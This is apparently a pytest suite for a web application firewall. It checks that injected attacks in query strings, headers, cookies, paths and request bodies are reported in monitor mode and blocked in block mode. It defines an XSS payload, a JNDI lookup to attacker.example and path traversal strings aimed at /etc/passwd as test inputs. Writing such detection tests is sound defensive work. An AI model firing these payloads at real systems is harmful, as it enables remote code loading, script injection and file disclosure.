"""Attacks in every part of a request: told in monitor mode, stopped before the handler in block mode."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.protection.shop import ran
from tests.protection.shops import CLIENTS

XSS = "<script>alert(1)</script>"
JNDI = "${jndi:ldap://attacker.example/a}"
QUOTED = "%3Cscript%3Ealert(1)%3C/script%3E"


@pytest.fixture(params=list(CLIENTS))
def client(request: pytest.FixtureRequest) -> Any:
    ran.clear()
    return CLIENTS[request.param]()


HEAD = {
    "query": (f"/page?q={QUOTED}", {}, "server.request.query", ["q", "0"]),
    "second value": (f"/page?q=fine&q={QUOTED}", {}, "server.request.query", ["q", "1"]),
    "header": ("/page", {"X-Search": JNDI}, "server.request.headers.no_cookies", ["x-search"]),
    "cookie": ("/page", {"Cookie": f"a=b; theme={XSS.replace(';', '')}"}, "server.request.cookies", ["theme", "0"]),
    "path": ("/path/..%2f..%2f..%2fetc%2fpasswd", {}, "server.request.uri.raw", []),
}


@pytest.mark.parametrize("part", list(HEAD))
def test_attacks_in_the_head_never_reach_the_application(client: Any, blocking: None, findings: Any, part: str) -> None:
    url, headers, address, path = HEAD[part]
    answer = client(url, headers=headers)
    assert (answer.status, ran) == (403, [])
    assert (address, path, True) in [found[1:] for found in findings()]


@pytest.mark.parametrize("part", list(HEAD))
def test_monitoring_tells_and_changes_nothing(client: Any, monitoring: None, findings: Any, part: str) -> None:
    url, headers, address, path = HEAD[part]
    answer = client(url, headers=headers)
    assert answer.status == 200
    assert ran[-1] in ("page", "path")
    assert (address, path, False) in [found[1:] for found in findings()]


def multipart(name: str, value: str, file_name: str = "") -> tuple[str, bytes]:
    file = f'; filename="{file_name}"' if file_name else ""
    head = f'--xyz\r\nContent-Disposition: form-data; name="{name}"{file}\r\n\r\n'
    return "multipart/form-data; boundary=xyz", f"{head}{value}\r\n--xyz--\r\n".encode()


BODIES: dict[str, tuple[str, str, bytes, list[str]]] = {
    "json": ("json", "application/json", json.dumps({"a": [1, {"b": XSS}]}).encode(), ["a", "1", "b"]),
    "json escapes": ("json", "application/json", b'{"a": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', ["a"]),
    "json half surrogate": ("json", "application/json", json.dumps({"x": "\ud800", "a": XSS}).encode(), ["a"]),
    "json in utf-16": ("json", "application/json", json.dumps({"a": XSS}).encode("utf-16"), ["a"]),
    "json with a mark": ("json", "application/json", b"\xef\xbb\xbf" + json.dumps({"a": XSS}).encode(), ["a"]),
    "json that is none": ("raw", "application/json", b"{" + XSS.encode(), []),
    "json twice": ("twice", "application/json", json.dumps([XSS]).encode(), ["0"]),
    "other json": ("json", "application/vnd.api+json; charset=utf-8", json.dumps({"a": XSS}).encode(), ["a"]),
    "form": ("form", "application/x-www-form-urlencoded", b"ok=1&a=" + QUOTED.encode(), ["a", "0"]),
    "multipart": ("form", *multipart("a", XSS), ["a", "0"]),
    "text": ("raw", "text/plain", XSS.encode(), []),
    "xml": ("raw", "application/xml", b"<a>" + XSS.encode() + b"</a>", ["1", "a", "script"]),
}


@pytest.mark.parametrize("chunked", [False, True], ids=["whole", "pieces"])
@pytest.mark.parametrize("kind", list(BODIES))
def test_attacks_in_bodies_stop_the_reading(
    client: Any, blocking: None, findings: Any, kind: str, chunked: bool
) -> None:
    how, content_type, body, path = BODIES[kind]
    pieces = [body[:7], body[7:20], body[20:]]
    answer = client(f"/body/{how}", "POST", {"Content-Type": content_type}, pieces if chunked else body)
    assert answer.status == 403
    assert b"security_response_id" in answer.body
    # The handler began, and never got what it read; or it was the framework that read.
    assert ran[-1:] == ["body"] or (client.reads_ignored and "body" not in ran)
    assert ("xss", "server.request.body", path, True) in findings()


@pytest.mark.parametrize("kind", list(BODIES))
def test_bodies_pass_when_monitoring(client: Any, protected: Any, findings: Any, kind: str) -> None:
    how, content_type, body, path = BODIES[kind]
    headers = {"Content-Type": content_type}
    protected("monitor")
    answer = client(f"/body/{how}", "POST", headers, body)
    assert (answer.status, ran[-1]) == (200, "read")
    assert ("xss", "server.request.body", path, False) in findings()


def test_names_of_files(client: Any, blocking: None, findings: Any) -> None:
    content_type, body = multipart("upload", "content", "../../../../etc/passwd;x")
    client("/body/form", "POST", {"Content-Type": content_type}, body)
    found = findings()
    assert found == [] or found[0][1].startswith("server.request.body")


def test_a_body_that_nobody_reads_is_not_looked_at(client: Any, blocking: None, findings: Any) -> None:
    body = json.dumps({"a": XSS}).encode()
    assert client("/body/ignored", "POST", {"Content-Type": "application/json"}, body).status in (200, 403)
    assert findings() == [] or client.reads_ignored


def test_a_body_read_in_part_is_looked_at_before_the_answer(client: Any, blocking: None, findings: Any) -> None:
    body = [XSS.encode(), b" and more"]
    answer = client("/body/part", "POST", {"Content-Type": "text/plain"}, body)
    assert answer.status in (200, 403)
    assert bool(findings()) == client.tells_of_parts  # the first ten bytes are no attack


def test_bodies_longer_than_the_limit(client: Any, protected: Any, findings: Any) -> None:
    protected("block", body_limit=100)
    inside = json.dumps({"a": XSS, "b": "x" * 500}).encode()
    outside = json.dumps({"b": "x" * 500, "a": XSS}).encode()
    headers = {"Content-Type": "application/json"}
    assert client("/body/json", "POST", headers, inside).status == 403
    assert client("/body/json", "POST", headers, outside).status == 200
    assert [found[2] for found in findings()] == [[]]  # as text: a part of a document is none


def test_no_bodies_at_all(client: Any, protected: Any, findings: Any) -> None:
    protected("block", body_limit=0)
    body = json.dumps({"a": XSS}).encode()
    assert client("/body/json", "POST", {"Content-Type": "application/json"}, body).status == 200
    assert findings() == []


def test_unknown_types_are_not_copied(client: Any, blocking: None, findings: Any) -> None:
    assert client("/body/raw", "POST", {"Content-Type": "image/png"}, XSS.encode()).status == 200
    assert findings() == []


HOSTILE = {
    "deep": b"[" * 50_000 + b"]" * 50_000,
    "deep objects": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "wide": b"[" + b",".join([b"1"] * 30_000) + b"]",
    "many keys": json.dumps({str(at): "x" for at in range(20_000)}).encode(),
    "numbers": b"[1e999, -1e-999, 123456789012345678901234567890, NaN, Infinity]",
    "nulls": b'"\\u0000\\u0000"',
    "not utf-8": b'{"a": "\xff\xfe\xfd"}',
    "cut": b'{"a": "',
    "long": b'"' + b"a" * 300_000 + b'"',
    "empty": b" ",
}


@pytest.mark.parametrize("kind", list(HOSTILE))
@pytest.mark.parametrize("content_type", ["application/json", "application/x-www-form-urlencoded", "text/plain"])
def test_hostile_bodies_pass_unharmed(client: Any, blocking: None, findings: Any, kind: str, content_type: str) -> None:
    answer = client("/body/raw", "POST", {"Content-Type": content_type}, HOSTILE[kind])
    assert answer.status == 200
    assert json.loads(answer.body) == {"got": HOSTILE[kind].decode("utf-8", "replace")}
    assert findings() == []


@pytest.mark.parametrize(
    "content_type",
    [
        "multipart/form-data",
        "multipart/form-data; boundary=",
        'multipart/form-data; boundary="',
        "multipart/form-data; boundary=\xff",
        ";;;json=;",
        "multipart/form-data; boundary=a; boundary=b",
    ],
)
def test_hostile_content_types(client: Any, monitoring: None, content_type: str) -> None:
    body = b"--a\r\nContent-Disposition: form-data; name\r\n\r\n--a\r\n\r\n--a"
    assert client("/body/ignored", "POST", {"Content-Type": content_type}, body).status in (200, *client.own_refusals)


@pytest.mark.parametrize("query", ["=", "&&&&", "%", "%ff%fe", "a" * 20_000, "a=1&" * 5_000, "a[b][c]=d", "%01=%01"])
def test_hostile_queries(client: Any, blocking: None, query: str) -> None:
    status = client(f"/page?{query}").status
    assert (status == 200 and ran[-1] == "page") or status in client.own_refusals


def test_attacks_hidden_behind_many_fields(client: Any, blocking: None) -> None:
    assert client(f"/page?{'a=1&' * 6_000}q={QUOTED}").status in (403, *client.own_refusals)


HIDDEN: dict[str, tuple[str, str, bytes]] = {
    "many values": ("json", "application/json", json.dumps([0] * 20_000 + [XSS]).encode()),
    "many levels": ("json", "application/json", b'{"a":' * 60 + json.dumps(XSS).encode() + b"}" * 60),
    "too many levels": ("raw", "application/json", b"[" * 400 + json.dumps(XSS).encode() + b"]" * 400),
    "a second root": ("raw", "application/xml", b"<a/><b>" + XSS.encode() + b"</b>"),
    "broken XML": ("raw", "application/xml", b"<a></b x><c>" + XSS.encode() + b"</c></a>"),
}


@pytest.mark.parametrize("kind", list(HIDDEN))
def test_attacks_beyond_the_limits(client: Any, blocking: None, kind: str) -> None:
    how, content_type, body = HIDDEN[kind]
    assert client(f"/body/{how}", "POST", {"Content-Type": content_type}, body).status == 403


def test_attacks_in_the_middle_of_what_is_too_long(client: Any, protected: Any) -> None:
    protected("block", body_limit=200_000)
    body = json.dumps(["x" * 90_000, XSS, "y" * 200_000]).encode()
    answer = client("/body/json", "POST", {"Content-Type": "application/json"}, body)
    assert answer.status in (403, *client.own_refusals)


def test_attacks_behind_padding(client: Any, blocking: None) -> None:
    body = json.dumps({"a": "x" * 50_000 + XSS}).encode()
    assert client("/body/json", "POST", {"Content-Type": "application/json"}, body).status == 403
